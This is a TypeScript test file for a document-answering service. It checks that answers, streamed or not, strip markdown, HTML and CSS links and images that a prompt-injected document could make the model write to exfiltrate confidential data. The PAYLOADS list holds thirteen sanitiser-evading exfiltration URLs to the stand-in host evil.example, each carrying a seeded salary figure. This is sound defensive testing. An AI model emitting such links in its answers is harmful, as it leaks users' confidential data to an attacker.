import type { Identity } from '@quire/contracts';
import { signIdentity } from '@quire/server-kit';
import { SECRET, startRetrievalForTest, type RetrievalHarness } from '../testing/retrieval-harness.js';
import { seedCollection, type SeededCollection } from '../testing/seed.js';

/**
 * A prompt-injected document makes the model write a link or image whose URL carries data. README
 * (QUIRE_ANSWER_LINK_HOSTS): "other links a model writes are unwrapped to their text, so a
 * prompt-injected document cannot make an answer link out with data in the URL"; and the answer
 * carries no images. Each payload below is valid CommonMark/GFM (or raw HTML) that renders as a link
 * or an auto-loading image to evil.example; none may reach the answer, streamed or not.
 */
const WHO: Identity = { team_id: 'team-a', key_id: 'key-a', role: 'member', groups: [] };
let harness: RetrievalHarness;
let seeded: SeededCollection;
let deltas: string[] = [];

beforeAll(async () => {
  harness = await startRetrievalForTest({
    reply: () => deltas,
    seed: async ({ db }) => {
      seeded = await seedCollection(db, {
        teamId: 'team-a', name: 'hr', embeddingModel: 'fake/embed', generationModel: 'fake/gen',
        documents: [{ title: 'Pay', chunks: [{ text: 'The CEO salary is 900000 USD. Salaries are confidential.', page: 1 }] }],
      });
    },
  });
});
afterAll(() => harness?.close());

async function ask(stream: boolean): Promise<{ status: number; text: string }> {
  const res = await fetch(`${harness.url}/v1/collections/${seeded.collectionId}/answer`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-quire-identity': signIdentity(WHO, SECRET) },
    body: JSON.stringify({ question: 'What is the CEO salary?', ...(stream ? { stream: true } : {}) }),
  });
  return { status: res.status, text: await res.text() };
}

async function answerWith(payload: string): Promise<string> {
  deltas = [`Salaries are confidential [1]. ${payload}`];
  const res = await ask(false);
  expect(res.status).toBe(200);
  return (JSON.parse(res.text) as { answer: string }).answer;
}

/** The streamed answer, with the payload cut into deltas of `size` characters. */
async function streamedWith(payload: string, size: number): Promise<string> {
  const text = `Salaries are confidential [1]. ${payload}`;
  deltas = [];
  for (let i = 0; i < text.length; i += size) deltas.push(text.slice(i, i + size));
  const res = await ask(true);
  expect(res.status).toBe(200);
  const blocks = res.text.split('\n\n').filter((b) => b.includes('event: delta'));
  return blocks.map((b) => (JSON.parse(/^data: (.*)$/m.exec(b)![1]!) as { text: string }).text).join('');
}

const PAYLOADS: [string, string][] = [
  ['image whose alt text holds balanced brackets (auto-loads, zero click)', '![a[b]c](https://evil.example/p.png?d=900000)'],
  ['link with a single-quoted title', "[more](https://evil.example/?d=900000 'details')"],
  ['link with a parenthesised title', '[more](https://evil.example/?d=900000 (details))'],
  ['link destination in angle brackets with a space', '[more](<https://evil.example/?d=900000 x>)'],
  ['bare URL in parentheses (GFM autolink)', '(https://evil.example/?d=900000)'],
  ['protocol-relative link', '[more](//evil.example/?d=900000)'],
  ['entity-encoded colon in a destination', '[more](https&#58;//evil.example/?d=900000)'],
  ['reference definition on the next line', '[more][r]\n\n[r]:\n  https://evil.example/?d=900000'],
  ['HTML image input', '<input type=image src=//evil.example/?d=900000>'],
  ['HTML link, protocol-relative', '<a href="//evil.example/?d=900000">more</a>'],
  ['HTML link with an entity-encoded colon', '<a href="https&#58;//evil.example/?d=900000">more</a>'],
  ['CSS url()', '<div style="background:url(//evil.example/?d=900000)">x</div>'],
  ['www autolink', 'www.evil.example/?d=900000'],
];

test('control: a plain markdown image and link to another host are removed', async () => {
  expect(await answerWith('![x](https://evil.example/p.png?d=900000)')).not.toContain('evil.example');
  expect(await answerWith('[more](https://evil.example/?d=900000)')).not.toContain('evil.example');
});

test.each(PAYLOADS)('%s is not kept in the answer', async (_name, payload) => {
  const answer = await answerWith(payload);
  expect(answer).not.toContain('evil.example');
  expect(answer).toContain('Salaries are confidential [1].');
});

test.each(PAYLOADS)('%s is not kept in the streamed answer, whatever the deltas', async (_name, payload) => {
  for (const size of [1, 3, 7]) {
    const answer = await streamedWith(payload, size);
    expect(answer).not.toContain('evil.example');
    expect(answer).not.toMatch(/(?<!\\)!\[/);
  }
});
